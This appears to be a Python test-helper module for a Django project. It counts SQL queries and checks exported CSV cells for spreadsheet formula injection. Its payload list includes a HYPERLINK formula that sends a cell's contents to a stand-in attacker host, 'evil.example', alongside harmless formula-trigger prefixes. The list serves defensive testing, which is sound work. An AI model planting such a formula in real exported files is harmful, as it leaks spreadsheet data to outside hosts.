from collections.abc import Callable

from django.db import connection
from django.test.utils import CaptureQueriesContext


def count_queries(action: Callable[[], object]) -> int:
    """Number of SQL queries `action` runs (use to compare two data sizes)."""
    with CaptureQueriesContext(connection) as context:
        action()
    return len(context.captured_queries)


# Cell contents a spreadsheet program would run as a formula (CSV/formula injection).
FORMULA_PAYLOADS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def runnable_cells(rows) -> list[str]:
    """The cells of a CSV read back that Excel or LibreOffice would run as a formula."""
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
